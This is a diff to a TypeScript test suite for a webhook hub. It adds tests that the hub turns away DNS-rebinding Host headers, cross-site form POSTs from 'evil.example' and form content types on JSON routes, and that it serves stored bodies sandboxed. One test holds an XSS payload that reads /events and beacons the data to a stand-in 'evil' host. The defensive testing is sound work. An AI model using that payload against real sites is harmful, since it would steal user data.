@@ -59,7 +59,7 @@ beforeEach(async () => {
       credentialHeaders: [...defaultCredentialHeaders, 'X-Shop-Token'],
     },
   });
-  app = await hub.app(identify, 'http://hub.krkn.test');
+  app = await hub.app(identify, { url: 'http://hub.krkn.test' });
   hub.start();
 });
 afterEach(async () => {
@@ -270,7 +270,8 @@ describe('events', () => {
       'x-hub-signature-256': 'sha256=00',
     };
     const headers = { ...secret, 'content-type': 'text/plain', 'x-test-caller': 'ci' };
-    const id = (await app.inject({ method: 'POST', url: '/hooks/ci/build', headers, payload: 'x' })).json<{ id: string }>().id;
+    const published = await app.inject({ method: 'POST', url: '/hooks/ci/build', headers, payload: 'x' });
+    const id = published.json<{ id: string }>().id;
     for (const as of ['ci', 'admin']) {
       const { event } = (await call(as, 'GET', `/events/${id}`)).json() as { event: EventDetail };
       const names = event.headers.map(([k]) => k.toLowerCase());
@@ -283,7 +284,7 @@ describe('events', () => {
     expect(stored).toEqual(expect.arrayContaining(['authorization: Bearer s3cret', 'x-shop-token: tok']));
   });
 
-  it('redelivers an event (202) from attempt one: a peer to its own subscriptions, the admin socket to all', async () => {
+  it('redelivers from attempt one (202): a peer to its own subscriptions, the admin socket to all', async () => {
     const own = ((await subscribe('ci', { topics: ['ci/*'], port: 80 })).json() as { subscription: { id: string } });
     await subscribe('dev', { topics: ['ci/*'], port: 80 });
     const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
@@ -301,7 +302,7 @@ describe('events', () => {
 });
 
 describe('the hub', () => {
-  it('answers 404 NOT_FOUND for an unknown route, serves /healthz without identifying, /status to callers', async () => {
+  it('answers 404 NOT_FOUND to an unknown route, serves /healthz without identifying, /status to callers', async () => {
     const nope = await call('ci', 'GET', '/nope');
     expect([nope.status, errorCode(nope)]).toEqual([404, 'NOT_FOUND']);
     expect((await call(undefined, 'GET', '/healthz')).json()).toEqual({ ok: true });
@@ -344,5 +345,73 @@ describe('the hub', () => {
     node.emit('peers');
     await until(() => store.deliveriesOf(id)[0]?.state === 'delivered');
     expect(rec.sent).toHaveLength(2);
+  });
+});
+
+describe('browsers on tailnet devices (the tailnet listener guards them)', () => {
+  let guarded: FastifyInstance;
+  beforeEach(async () => {
+    guarded = await hub.app(identify, { url: 'http://hub.krkn.test', guardBrowsers: true });
+  });
+  afterEach(async () => {
+    await guarded.close();
+  });
+  const send = (method: Method, url: string, headers: Record<string, string>, payload?: string) =>
+    guarded.inject({ method, url, headers: { 'x-test-caller': 'ci', ...headers }, ...(payload ? { payload } : {}) });
+  const code = (res: { json: () => unknown }) => (res.json() as { error: { code: string } }).error.code;
+
+  it("answers 421 to a Host that is none of krkns's names or addresses (DNS rebinding)", async () => {
+    const rebound = await send('GET', '/events', { host: 'evil.example' });
+    expect([rebound.statusCode, code(rebound)]).toEqual([421, 'MISDIRECTED_HOST']);
+    const unknown = await guarded.inject({ method: 'GET', url: '/events', headers: { host: 'evil.example:80' } });
+    expect([unknown.statusCode, code(unknown)]).toEqual([421, 'MISDIRECTED_HOST']);
+    const publish = await send('POST', '/hooks/ci/build', { host: 'evil.example', 'content-type': 'text/plain' }, 'x');
+    expect(publish.statusCode).toBe(421);
+    for (const host of ['hub.krkn.test', 'HUB.krkn.test.', 'hub', '100.64.0.1', '100.64.0.1:80']) {
+      expect([host, (await send('GET', '/events', { host })).statusCode]).toEqual([host, 200]);
+    }
+    expect(store.stats().events).toBe(0);
+  });
+
+  it('refuses a form-style cross-site POST (Sec-Fetch-Site, or Origin alone) and stores nothing', async () => {
+    const form = { host: 'hub.krkn.test', 'content-type': 'application/x-www-form-urlencoded' };
+    const evil = { 'sec-fetch-site': 'cross-site', origin: 'http://evil.example' };
+    const modern = await send('POST', '/hooks/ci/build', { ...form, ...evil }, 'a=1');
+    expect([modern.statusCode, code(modern)]).toEqual([403, 'CROSS_SITE']);
+    const older = await send('POST', '/hooks/ci/build', { ...form, origin: 'http://evil.example' }, 'a=1');
+    expect([older.statusCode, code(older)]).toEqual([403, 'CROSS_SITE']);
+    const sandboxed = await send('POST', '/hooks/ci/build', { ...form, origin: 'null' }, 'a=1');
+    expect([sandboxed.statusCode, code(sandboxed)]).toEqual([403, 'CROSS_SITE']);
+    expect(store.stats().events).toBe(0);
+    // Tools send neither header; a form-encoded webhook from one is a webhook like any other.
+    expect((await send('POST', '/hooks/ci/build', form, 'a=1')).statusCode).toBe(202);
+    const own = await send('POST', '/hooks/ci/build', { ...form, origin: 'http://hub.krkn.test' }, 'a=1');
+    expect(own.statusCode).toBe(202);
+  });
+
+  it('refuses the simple (form) content types on JSON routes, so a form cannot subscribe or redeliver', async () => {
+    const body = JSON.stringify({ topics: ['ci/**'], port: 80 });
+    const plain = await send('POST', '/subscriptions', { host: 'hub', 'content-type': 'text/plain' }, body);
+    expect([plain.statusCode, code(plain)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
+    const published = await send('POST', '/hooks/ci/build', { host: 'hub', 'content-type': 'text/plain' }, 'x');
+    const multipart = { host: 'hub', 'content-type': 'multipart/form-data; boundary=x' };
+    const redeliver = await send('POST', `/events/${published.json<{ id: string }>().id}/redeliver`, multipart);
+    expect([redeliver.statusCode, code(redeliver)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
+    const json = await send('POST', '/subscriptions', { host: 'hub', 'content-type': 'application/json' }, body);
+    expect(json.statusCode).toBe(201);
+  });
+
+  it('serves a stored body as an attachment, unsniffed, sandboxed', async () => {
+    const html = '<script>fetch("/events").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script>';
+    const published = await send('POST', '/hooks/ci/page', { host: 'hub', 'content-type': 'text/html' }, html);
+    const id = published.json<{ id: string }>().id;
+    const res = await send('GET', `/events/${id}/body`, { host: 'hub' });
+    expect(res.body).toBe(html);
+    expect(res.headers).toMatchObject({
+      'content-type': 'text/html',
+      'x-content-type-options': 'nosniff',
+      'content-disposition': `attachment; filename="${id}"`,
+      'content-security-policy': "sandbox; default-src 'none'",
+    });
   });
 });
